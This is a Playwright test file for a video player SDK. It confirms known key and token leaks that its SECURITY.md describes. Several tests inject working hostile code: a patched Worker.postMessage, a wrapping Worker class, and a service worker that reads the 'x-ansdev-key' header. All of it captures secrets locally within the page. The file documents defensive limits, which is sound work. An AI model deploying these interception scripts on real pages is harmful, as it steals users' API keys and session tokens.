/** What no page can defend against, and SECURITY.md says so. A test that fails here means that the document is wrong. */
import type { Page } from "@playwright/test";

import { expect, test } from "../../support/test.ts";

/** Makes a client and a token, in the most careful way that there is. */
async function mint(page: Page, access: object): Promise<void> {
  await page.evaluate(async (options) => {
    const { createClient } = await import("@ansdev/player");
    const client = await createClient({ ...options, isolation: "worker" } as never);
    await (await client.openSession("vid_clear")).getToken();
  }, access);
}

async function stolen(page: Page): Promise<string> {
  return page.evaluate(() => (window as unknown as { stolen: string }).stolen);
}

test("known leak: a script that ran before the SDK and replaced postMessage", async ({ page, mock, site }) => {
  await page.addInitScript(() => {
    // eslint-disable-next-line @typescript-eslint/unbound-method -- called with its own `this`
    const { postMessage } = Worker.prototype;
    Worker.prototype.postMessage = function (message: { key?: Uint8Array }, ...rest: unknown[]) {
      if (message.key) Object.assign(window, { stolen: new TextDecoder().decode(message.key) });
      postMessage.call(this, message, ...(rest as []));
    };
  });
  await page.goto(site.page("blank.html"));
  await mint(page, mock.access);
  expect(await stolen(page)).toBe(mock.apiKey);
});

test("known leak: a script that ran before the SDK and replaced Worker", async ({ page, mock, site }) => {
  await page.addInitScript(() => {
    window.Worker = class extends Worker {
      constructor(url: string | URL) {
        const hostile = `onmessage = ({ data }) => {
          if (data.key) postMessage(new TextDecoder().decode(data.key));
        }; importScripts(${JSON.stringify(String(url))});
        const own = onmessage; onmessage = (event) => {
          if (event.data.key) postMessage(new TextDecoder().decode(event.data.key));
          own(event);
        };`;
        super(URL.createObjectURL(new Blob([hostile])));
        this.addEventListener("message", ({ data }) => Object.assign(window, { stolen: data as string }));
      }
    };
  });
  await page.goto(site.page("blank.html"));
  await mint(page, mock.access);
  await expect.poll(() => stolen(page)).toBe(mock.apiKey);
});

test("known leak: a hostile service worker", async ({ page, mock, site }) => {
  site.route("/hostile-sw.js", (_request, response) => {
    response.writeHead(200, { "content-type": "text/javascript" }).end(`
      oninstall = () => skipWaiting();
      onactivate = (event) => event.waitUntil(clients.claim());
      onfetch = ({ request }) => {
        const key = request.headers.get("x-ansdev-key");
        if (key) new BroadcastChannel("stolen").postMessage(key);
      };`);
  });
  await page.goto(site.page("blank.html"));
  await page.evaluate(async () => {
    new BroadcastChannel("stolen").onmessage = ({ data }) => Object.assign(window, { stolen: data as string });
    const controlled = new Promise((resolve) => {
      navigator.serviceWorker.oncontrollerchange = resolve;
    });
    await navigator.serviceWorker.register("/hostile-sw.js");
    await controlled;
  });
  await mint(page, mock.access);
  await expect.poll(() => stolen(page)).toBe(mock.apiKey);
});

test("known leak: the network panel", async ({ page, mock, site }) => {
  const shown: string[] = [];
  // What Playwright tells of requests is what the panel shows.
  page.context().on("request", (request) => {
    void request.allHeaders().then((headers) => shown.push(headers["x-ansdev-key"] ?? ""));
  });
  await page.goto(site.page("blank.html"));
  await mint(page, mock.access);
  await expect.poll(() => shown).toContain(mock.apiKey);
});

test("known leak: tokens, which every script of the page can ask for", async ({ page, mock, site }) => {
  await page.goto(site.page("blank.html"));
  await mint(page, mock.access);
  const isShown = await page.evaluate(async (access) => {
    const { createClient } = await import("@ansdev/player");
    const session = await (await createClient(access)).openSession("vid_clear");
    const token = await session.getToken();
    const shown = new Promise<boolean>((resolve) => {
      new PerformanceObserver((list) => {
        if (list.getEntries().some(({ name }) => name.includes(token))) resolve(true);
      }).observe({ type: "resource" });
    });
    await (await fetch(await session.manifestUrl())).text();
    return shown;
  }, mock.access);
  expect(isShown).toBe(true);
});
